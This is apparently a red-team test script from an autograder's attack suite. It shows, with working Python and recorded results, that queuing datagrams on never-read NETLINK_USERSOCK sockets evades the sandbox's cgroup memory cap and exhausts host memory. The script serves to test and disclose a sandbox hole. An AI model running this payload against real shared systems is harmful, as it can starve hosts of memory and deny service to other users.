"""Round 13, a04 (ROOT run): memory queued on NETLINK_USERSOCK sockets is counted by no cap at all.

Threat model: "a cgroup per submission ... caps memory of all their processes together (6 GiB, tmpfs included,
no swap) ... each process is also capped in data size"; the seccomp filter allows "sockets of ... local, IP and
netlink" families. A netlink socket of protocol NETLINK_USERSOCK (2) may be sent to by an unprivileged process
(the protocol allows non-root send), so a kernel can unicast datagrams from one of its own netlink sockets to
another one that never reads. Each receiver queues up to its SO_RCVBUF (net.core.rmem_max 4 MiB, doubled by the
kernel: 8 MiB); the skbs are charged to no memory cgroup (netlink has no socket memory accounting; under v1 not
even the kmem counter sees them: host check, 315 MiB queued in a 512 MiB cgroup -> memory.usage 0), not to
RLIMIT_DATA or RLIMIT_AS, and, unlike TCP (a02), to no host-wide limit either. 1,280 open files a process and
256 processes a sandbox allow ~10 GiB a process, ~2.5 TiB a sandbox, i.e. the whole host.

The cap is lowered to 1 GiB through tests/attacks/run_grade.py (tools.grade.main with the sandbox's limits
overridden, as tests/test_attacks.py does) so that this machine (shared) never holds more than ~3.5 GiB: the
kernel keeps 600 MiB of its own memory (counted by the cgroup) and queues 2.5 GiB on netlink sockets, holds it
20 s, reads the kernel's own account (/proc/net/netlink's Rmem column), frees it and answers q1. The host samples
the submission's memory cgroup (the one whose limit is 1 GiB) and MemAvailable. An honest student is graded in
the same run.
Usage: <venv python> a04_netlink_usersock_buffers_past_memory_cap.py            (cap lowered to 1 GiB, a04.out.txt)
       <venv python> a04_netlink_usersock_buffers_past_memory_cap.py --shipped  (`python -m tools.grade` as shipped,
       6 GiB cap, 3 GiB queued: not past the cap on this shared machine, but the cgroup's count shows it is not
       seen; a04-shipped.out.txt)
"""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common13 import course, grade, show, notebook, honest_nb, outputs, my_cgroups, mem_available

TARGET = int(os.environ.get("NL_MIB", "2560")) << 20
ANON = 600 << 20
Q1 = r'''
import socket, struct, time, resource
def _nl_rmem():
    total = 0
    for line in open("/proc/net/netlink").read().splitlines()[1:]:
        f = line.split()
        total += int(f[4])  # Rmem: bytes queued for the socket to read
    return total
_anon = bytearray(%d)
for _i in range(0, len(_anon), 4096):
    _anon[_i] = 1
_s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)  # NETLINK_USERSOCK
_s.bind((0, 0)); _s.setblocking(False)
_s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
_msg = struct.pack("=LHHLL", 60000, 0x10, 0, 0, 0) + b"x" * (60000 - 16)
_keep, _queued, _err = [], 0, None
try:
    while _queued < %d:
        _r = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
        _r.bind((0, 0))
        _r.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        while True:
            try:
                _queued += _s.sendto(_msg, (_r.getsockname()[0], 0))
            except OSError:
                break
        _keep.append(_r)
except OSError as _e:
    _err = repr(_e)
print(f"anon {len(_anon) / 2**20:.0f} MiB (counted); netlink: {_queued / 2**30:.2f} GiB sent to {len(_keep)} sockets "
      f"that never read; the kernel's own account (/proc/net/netlink Rmem): {_nl_rmem() / 2**30:.2f} GiB; "
      f"RLIMIT_DATA {resource.getrlimit(resource.RLIMIT_DATA)[0] / 2**30:.2f} GiB; stopped by: {_err}", flush=True)
time.sleep(20)
del _keep, _anon
q1 = "a"
''' % (ANON, TARGET)

SHIPPED = "--shipped" in sys.argv
if SHIPPED:
    Q1 = Q1.replace("while _queued < %d:" % TARGET, "while _queued < %d:" % (3 << 30))

if __name__ == "__main__":
    dest = "/tmp/attack13-a04"
    course(dest, {"aa_honest": honest_nb(), "zz_netlink": notebook(overrides={"quiz_q1": Q1})})
    cap = 6 << 30 if SHIPPED else 1 << 30
    rows, stop = [], []
    base = mem_available()

    def sample():
        while not stop:
            mine = my_cgroups()
            rows.append((base - mem_available(), mine))
            time.sleep(0.25)

    th = threading.Thread(target=sample, daemon=True); th.start()
    grade(dest, limits=None if SHIPPED else {"memory_bytes": 1 << 30})
    stop.append(1); th.join()
    drop, cg = max(rows, key=lambda r: r[0] + sum(v["usage_in_bytes"] for v in r[1].values()))
    print(f"host, at the largest MemAvailable drop ({drop / 2**30:.2f} GiB; the machine is shared, so this is approximate): "
          f"the submission's memory cgroup(s) {sorted(k.split('-')[-1] for k in cg)} held "
          f"{sum(v['usage_in_bytes'] for v in cg.values()) / 2**30:.2f} GiB of a {cap / 2**30:.2f} GiB limit; highest max_usage seen "
          f"{max([v['max_usage_in_bytes'] for r in rows for v in r[1].values()] or [0]) / 2**30:.2f} GiB")
    show(dest)
    outputs(dest, "zz_netlink")
    import shutil; shutil.rmtree(dest, ignore_errors=True)

# RESULT (root, cgroup v1, kernel 6.18): BROKEN (caps).
#   a04.out.txt (cap 1 GiB): 2.51 GiB sent to 325 NETLINK_USERSOCK sockets (the kernel's own /proc/net/netlink Rmem:
#   2.53 GiB) + 0.6 GiB anonymous memory; the submission's memory cgroup held 0.68-0.69 GiB of its 1.00 GiB limit
#   the whole time: 3.2 GiB held, 3.2x the cap, RLIMIT_DATA (1 GiB) not involved either.
#   a04-shipped.out.txt (`python -m tools.grade` as shipped, 6 GiB cap): 3.04 GiB queued, the cgroup counted 0.69 GiB.
#   No error stopped the kernel before its target: the limit is 8 MiB a socket, 1,280 files a process, 256
#   processes. Honest student 24/24 in both runs.
